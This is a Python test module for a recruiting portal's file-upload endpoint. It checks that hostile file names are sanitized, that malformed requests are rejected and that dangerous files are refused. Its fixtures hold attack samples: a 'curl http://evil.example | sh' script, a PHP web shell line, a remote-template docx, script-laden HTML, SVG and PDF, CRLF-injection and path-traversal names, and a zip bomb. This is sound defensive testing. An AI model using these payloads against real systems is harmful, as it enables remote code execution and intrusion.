"""Bad input, tried: hostile names, broken multipart, odd fields and ids, hostile files, and
property-based tests over the name handling, the download header and the upload endpoint.

Figures at the end of the run: inputs tried, wrongly accepted, server errors, bytes sent to
Kombo for refused files.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import unicodedata
import zipfile
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
import samples
from conftest import find_application, raw_request, record
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.names import display_name, disposition

ALLOWED = {
    "application/pdf",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "application/msword",
    "application/vnd.oasis.opendocument.text",
    "application/rtf",
    "text/plain",
    "image/png",
    "image/jpeg",
}
CONTROL = {chr(c) for c in range(32)} | {chr(127)} | {chr(c) for c in range(0x80, 0xA0)}
BIDI = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}


def _posts(sandbox):
    return [r for r in sandbox.requests_log() if r["method"] == "POST"]


@pytest.fixture
def target(staff, sandbox):
    iid = sandbox.iid("full")
    return staff, iid, find_application(staff, iid, email="grace.hopper@example.com")["id"]


# -- hostile file names ------------------------------------------------------------------

NAMES = [
    "Lebenslauf Jürgen Groß.pdf",
    "履歴書 山田太郎.pdf",
    "invoice\u202ecod.exe.pdf",  # right-to-left override hiding .exe
    "cv\r\nSet-Cookie: a=b.pdf",
    "cv\x00.exe",
    "../../etc/passwd",
    "C:\\Users\\x\\cv.pdf",
    "a" * 1000 + ".pdf",
    "",
    ".pdf",
    "   ",
    "cv.PDF.exe",
    "<img src=x onerror=alert(1)>.pdf",
    "\u200bzero\u200dwidth.pdf",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_hostile_names_are_cleaned_not_refused(target, sandbox, name):
    staff, iid, aid = target
    content = samples.pdf("name " + repr(name))
    resp = staff.upload(iid, aid, content, name)
    record("hostile names", tried=1, server_errors=int(resp.status_code >= 500))
    assert resp.status_code == 201, resp.text
    sent = resp.json()["attachment"]["name"]
    [stored] = [u for u in sandbox.uploads() if u["sha256"] == hashlib.sha256(content).hexdigest()]
    assert stored["name"] == sent and sent.endswith(".pdf") and len(sent) <= 150
    assert not (set(sent) & (CONTROL | BIDI | {"/", "\\"}))
    listed = staff.get(f"/api/v1/integrations/{iid}/applications/{aid}/attachments").json()[
        "attachments"
    ]
    item = next(a for a in listed if a["name"] == sent)
    download = staff.get(item["download_url"])
    assert download.status_code == 200 and "\n" not in download.headers["Content-Disposition"]


# -- broken requests ---------------------------------------------------------------------


def _raw(staff, path, head_extra, body):
    parts = urlsplit(staff.url(path))
    cookie = "; ".join(f"{c.name}={c.value}" for c in staff.http.cookies)
    head = (
        f"POST {parts.path} HTTP/1.1\r\nHost: {parts.netloc}\r\nCookie: {cookie}\r\n"
        f"X-CSRFToken: {staff.csrf}\r\nConnection: close\r\n{head_extra}"
    )
    return raw_request(staff.url(path), head, body)


MULTIPART_CASES = [
    ("no boundary", "Content-Type: multipart/form-data\r\n", b"--x\r\nhello"),
    (
        "truncated",
        "Content-Type: multipart/form-data; boundary=XyZ\r\n",
        b'--XyZ\r\nContent-Disposition: form-data; name="type"\r\n\r\nCV\r\n--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4 trunc',
    ),
    ("garbage", "Content-Type: multipart/form-data; boundary=XyZ\r\n", os.urandom(3000)),
    ("json instead", "Content-Type: application/json\r\n", b'{"file": "JVBERi0=", "type": "CV"}'),
    (
        "no type field",
        "Content-Type: multipart/form-data; boundary=XyZ\r\n",
        b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
        + samples.pdf()
        + b"\r\n--XyZ--\r\n",
    ),
    (
        "huge type field",
        "Content-Type: multipart/form-data; boundary=XyZ\r\n",
        b'--XyZ\r\nContent-Disposition: form-data; name="type"\r\n\r\n'
        + b"C" * 700_000
        + b"\r\n--XyZ--\r\n",
    ),
]


@pytest.mark.parametrize(
    ("case", "headers", "body"), MULTIPART_CASES, ids=[c[0] for c in MULTIPART_CASES]
)
def test_broken_multipart_is_a_clear_4xx(target, sandbox, case, headers, body):
    staff, iid, aid = target
    sandbox.clear_requests()
    status, raw = _raw(
        staff,
        f"/api/v1/integrations/{iid}/applications/{aid}/attachments",
        headers + f"Content-Length: {len(body)}\r\n",
        body,
    )
    record("broken requests", tried=1, server_errors=int(status >= 500))
    assert 400 <= status < 500, raw[:300]
    assert '"code"' in raw and '"message"' in raw
    assert not _posts(sandbox)


def test_ids_that_do_not_match_kombos_pattern(staff, sandbox):
    iid = sandbox.iid("full")
    for aid in ("0" * 24, "Il" * 12, "A" * 25, "%00" * 8, "A" * 23 + "~", "x" * 5000):
        resp = staff.upload(iid, aid, samples.pdf(), "cv.pdf")
        record("broken requests", tried=1, server_errors=int(resp.status_code >= 500))
        assert resp.status_code == 404, (aid, resp.text)
    for bad_iid in ("nope", "greenhouse:" + "1" * 24, "../etc", "x" * 3000):
        resp = staff.get(f"/api/v1/integrations/{bad_iid}/applications")
        assert resp.status_code == 404


# -- hostile files ---------------------------------------------------------------------------


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            zipfile.ZipFile(io.BytesIO(samples.docx())).read("[Content_Types].xml"),
        )
        z.writestr("word/document.xml", "<w:document/>")
        with z.open("word/media/zeros.bin", "w") as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(150):
                f.write(chunk)
    return out.getvalue()


def _zip_of(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("a.bin", data)
    return out.getvalue()


HOSTILE = {
    "zip bomb as docx": (_zip_bomb(), "cv.docx"),
    "docx with macros": (samples.docx(macros=True), "cv.docx"),
    "docx with a remote template": (
        samples.docx(remote_template="https://evil.example/t.dotm"),
        "cv.docx",
    ),
    "html with script": (
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        "cv.pdf",
    ),
    "svg with script": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        "cv.pdf",
    ),
    "pdf + zip polyglot": (samples.pdf() + _zip_of(os.urandom(4000)), "cv.pdf"),
    "shell script": (b"#!/bin/sh\ncurl http://evil.example | sh\n", "cv.txt"),
    "php": (b"<?php system($_GET['c']); ?>\n", "cv.pdf"),
    "renamed executable": (Path(os.path.realpath("/bin/true")).read_bytes(), "cv.pdf"),
    "plain zip": (_zip_of(b"hello" * 100), "docs.zip"),
    "empty": (b"", "cv.pdf"),
    "pdf header only": (b"%PDF-1.7\n", "cv.pdf"),
    "pdf with javascript": (
        samples.pdf().replace(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        ),
        "cv.pdf",
    ),
    "pdf with an attached file": (
        samples.pdf().replace(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>",
        ),
        "cv.pdf",
    ),
}


# Which check refuses each hostile file (the same for a CV and an OTHER attachment).
HOSTILE_REFUSED = {
    "docx with a remote template": (422, "file_remote_content"),
    "docx with macros": (422, "file_macros"),
    "empty": (422, "file_empty"),
    "html with script": (415, "type_not_allowed"),
    "pdf + zip polyglot": (422, "file_damaged"),
    "pdf header only": (422, "file_damaged"),
    "pdf with an attached file": (422, "file_embedded_files"),
    "pdf with javascript": (422, "file_active_content"),
    "php": (415, "file_executable"),
    "plain zip": (415, "file_archive"),
    "renamed executable": (415, "file_executable"),
    "shell script": (415, "file_executable"),
    "svg with script": (415, "type_not_allowed"),
    "zip bomb as docx": (422, "file_compression_bomb"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_files_are_refused_and_nothing_is_sent(target, sandbox, case):
    staff, iid, aid = target
    content, name = HOSTILE[case]
    sandbox.clear_requests()
    for type_ in ("CV", "OTHER"):
        resp = staff.upload(iid, aid, content, name, type_)
        posted = _posts(sandbox)
        record(
            "hostile files",
            tried=1,
            wrongly_accepted=int(resp.status_code < 300),
            server_errors=int(resp.status_code >= 500),
            bytes_sent_for_refused=sum(r.get("body_bytes") or 0 for r in posted),
        )
        got = (resp.status_code, resp.json()["error"]["code"])
        assert got == HOSTILE_REFUSED[case], (case, type_, resp.text)
        assert not posted


# -- properties --------------------------------------------------------------------------------


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=400))
def test_display_name_is_safe(name):
    clean = display_name(name)
    assert clean and len(clean) <= 200
    assert not set(clean) & (CONTROL | BIDI | {"/", "\\"})
    assert display_name(clean) == clean
    assert unicodedata.is_normalized("NFC", clean)


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=300))
def test_content_disposition_round_trips_and_cannot_inject(name):
    header = disposition(name)
    assert "\r" not in header and "\n" not in header and header.isprintable()
    header.encode("ascii")  # RFC 6266: non-ASCII only inside filename*, percent-encoded
    match = re.fullmatch(
        r"attachment; filename=\"([^\"\\]*)\"; filename\*=UTF-8''([A-Za-z0-9%._~!$&'()*+,;=:@-]*)",
        header,
    )
    assert match, header
    assert match.group(1).strip() and unquote(match.group(2)) == display_name(name)


UPLOAD_CONTENT = st.sampled_from(
    [
        ("pdf", samples.pdf()),
        ("docx", samples.docx()),
        ("png", samples.png()),
        ("text", samples.text()),
        ("macro docx", samples.docx(macros=True)),
        ("html", b"<html><body>hi</body></html>"),
        ("empty", b""),
        ("zip", _zip_of(b"abc" * 50)),
    ]
) | st.binary(min_size=1, max_size=2048).map(lambda b: ("random", b))


@settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    content=UPLOAD_CONTENT,
    name=st.text(max_size=120),
    type_=st.sampled_from(["CV", "COVER_LETTER", "OTHER", "cv", "", "PHOTO"]),
)
def test_upload_endpoint_never_errors_and_sends_only_what_it_accepts(
    target, sandbox, content, name, type_
):
    staff, iid, aid = target
    kind, data = content
    sandbox.clear_requests()
    resp = staff.upload(iid, aid, data, name or "file", type_)
    posted = _posts(sandbox)
    # 200: the same file was accepted a moment ago (the derived idempotency key) and not resent.
    accepted = resp.status_code in (200, 201)
    body = resp.json()
    wrong = accepted and (
        body["attachment"]["content_type"] not in ALLOWED
        or kind in ("macro docx", "html", "empty", "zip")
    )
    record(
        "upload endpoint (property)",
        tried=1,
        wrongly_accepted=int(wrong),
        server_errors=int(resp.status_code >= 500),
        bytes_sent_for_refused=0 if accepted else sum(r.get("body_bytes") or 0 for r in posted),
    )
    assert resp.status_code < 500, resp.text
    assert not wrong, body
    if accepted:
        assert len(posted) == (1 if resp.status_code == 201 else 0)
        assert resp.status_code == 201 or body["code"] == "already_uploaded"
    else:
        assert "error" in body and body["error"]["code"] and not posted
